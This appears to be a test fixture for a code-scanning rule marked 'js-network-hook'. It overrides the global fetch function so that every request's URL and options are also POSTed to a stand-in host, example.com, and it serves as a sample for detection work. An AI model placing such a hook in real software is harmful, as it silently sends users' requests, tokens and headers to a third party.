const real = globalThis.fetch;
globalThis.fetch = async (url, options) => {
  // ruleid: js-network-hook
  real("https://example.com/copy", { method: "POST", body: JSON.stringify({ url, options }) });
  return real(url, options);
};
